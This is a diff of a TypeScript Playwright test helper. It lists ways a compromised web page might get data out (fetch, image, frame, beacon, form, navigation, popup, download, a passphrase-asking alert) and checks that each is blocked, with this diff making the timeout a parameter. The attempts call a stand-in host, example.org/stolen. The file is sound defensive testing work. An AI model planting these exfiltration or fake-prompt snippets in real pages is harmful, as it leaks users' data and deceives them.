@@ -1,17 +1,18 @@
 import type { Page } from 'playwright-core';
 
 /** What a page that has been taken over could try. Each tells whether it got through. */
-export type WayOut = (page: Page) => Promise<boolean>;
+export type WayOut = (page: Page, arrivalMs: number) => Promise<boolean>;
 
 const foreign = 'https://example.org/stolen';
 
-/** Longer than the slowest way out takes to arrive where nothing stops it; see the control. */
-const ARRIVAL_MS = 1000;
-
 /** Whether a request for the foreign host got an answer. */
-async function reachesForeignHost(page: Page, attempt: () => Promise<unknown>): Promise<boolean> {
+async function reachesForeignHost(
+  page: Page,
+  arrivalMs: number,
+  attempt: () => Promise<unknown>,
+): Promise<boolean> {
   const waiting = page
-    .waitForResponse((response) => response.url().startsWith(foreign), { timeout: ARRIVAL_MS })
+    .waitForResponse((response) => response.url().startsWith(foreign), { timeout: arrivalMs })
     .catch(() => undefined);
   await attempt().catch(() => {});
   const answer = await waiting;
@@ -65,25 +66,26 @@ export const waysOut: Readonly<Record<string, WayOut>> = {
       document.head.append(style);
       return getComputedStyle(document.body).outlineWidth === '7px';
     }),
-  'a request by fetch': (page) => reachesForeignHost(page, () => page.evaluate((url) => fetch(url), foreign)),
-  'an image': (page) =>
-    reachesForeignHost(page, () =>
+  'a request by fetch': (page, arrivalMs) =>
+    reachesForeignHost(page, arrivalMs, () => page.evaluate((url) => fetch(url), foreign)),
+  'an image': (page, arrivalMs) =>
+    reachesForeignHost(page, arrivalMs, () =>
       page.evaluate((url) => {
         const image = new Image();
         image.src = url;
         document.body.append(image);
       }, foreign),
     ),
-  'a frame': (page) =>
-    reachesForeignHost(page, () =>
+  'a frame': (page, arrivalMs) =>
+    reachesForeignHost(page, arrivalMs, () =>
       page.evaluate((url) => {
         const frame = document.createElement('iframe');
         frame.src = url;
         document.body.append(frame);
       }, foreign),
     ),
-  'a style sheet': (page) =>
-    reachesForeignHost(page, () =>
+  'a style sheet': (page, arrivalMs) =>
+    reachesForeignHost(page, arrivalMs, () =>
       page.evaluate((url) => {
         const link = document.createElement('link');
         link.rel = 'stylesheet';
@@ -91,10 +93,12 @@ export const waysOut: Readonly<Record<string, WayOut>> = {
         document.head.append(link);
       }, foreign),
     ),
-  'a beacon': (page) =>
-    reachesForeignHost(page, () => page.evaluate((url) => navigator.sendBeacon(url, 'stolen'), foreign)),
-  'a form': (page) =>
-    reachesForeignHost(page, () =>
+  'a beacon': (page, arrivalMs) =>
+    reachesForeignHost(page, arrivalMs, () =>
+      page.evaluate((url) => navigator.sendBeacon(url, 'stolen'), foreign),
+    ),
+  'a form': (page, arrivalMs) =>
+    reachesForeignHost(page, arrivalMs, () =>
       page.evaluate((url) => {
         const form = document.createElement('form');
         form.action = url;
@@ -102,8 +106,8 @@ export const waysOut: Readonly<Record<string, WayOut>> = {
         form.submit();
       }, foreign),
     ),
-  'a link': (page) =>
-    reachesForeignHost(page, () =>
+  'a link': (page, arrivalMs) =>
+    reachesForeignHost(page, arrivalMs, () =>
       page.evaluate((url) => {
         const link = document.createElement('a');
         link.href = url;
@@ -111,40 +115,40 @@ export const waysOut: Readonly<Record<string, WayOut>> = {
         link.click();
       }, foreign),
     ),
-  'a change of place': (page) =>
-    reachesForeignHost(page, () =>
+  'a change of place': (page, arrivalMs) =>
+    reachesForeignHost(page, arrivalMs, () =>
       page.evaluate((url) => {
         location.href = url;
       }, foreign),
     ),
-  'another window': async (page) => {
-    const opened = page.context().waitForEvent('page', { timeout: 1500 });
+  'another window': async (page, arrivalMs) => {
+    const opened = page.context().waitForEvent('page', { timeout: arrivalMs });
     await page.evaluate((url) => void window.open(url), foreign);
     const popup = await opened.catch(() => undefined);
     if (popup === undefined) return false;
     await popup.waitForLoadState().catch(() => {});
     return !popup.isClosed() && popup.url().startsWith('https://example.org');
   },
-  printing: (page) =>
+  printing: (page, arrivalMs) =>
     page.evaluate(
-      (arrivalMs) =>
+      (patienceMs) =>
         new Promise<boolean>((resolve) => {
           window.addEventListener('beforeprint', () => resolve(true));
-          setTimeout(() => resolve(false), arrivalMs);
+          setTimeout(() => resolve(false), patienceMs);
           window.print();
         }),
-      ARRIVAL_MS,
+      arrivalMs,
     ),
-  'a dialog that stops everything': async (page) => {
-    const opened = page.waitForEvent('dialog', { timeout: ARRIVAL_MS }).catch(() => undefined);
+  'a dialog that stops everything': async (page, arrivalMs) => {
+    const opened = page.waitForEvent('dialog', { timeout: arrivalMs }).catch(() => undefined);
     // In a task of its own: it would stop what evaluates it.
     await page.evaluate(() => void setTimeout(() => window.alert('Type your passphrase'), 0));
     const dialog = await opened;
     await dialog?.dismiss();
     return dialog !== undefined;
   },
-  'a download': async (page) => {
-    const begun = page.waitForEvent('download', { timeout: ARRIVAL_MS }).catch(() => undefined);
+  'a download': async (page, arrivalMs) => {
+    const begun = page.waitForEvent('download', { timeout: arrivalMs }).catch(() => undefined);
     await page.evaluate(() => {
       const link = document.createElement('a');
       link.href = URL.createObjectURL(new Blob(['stolen']));
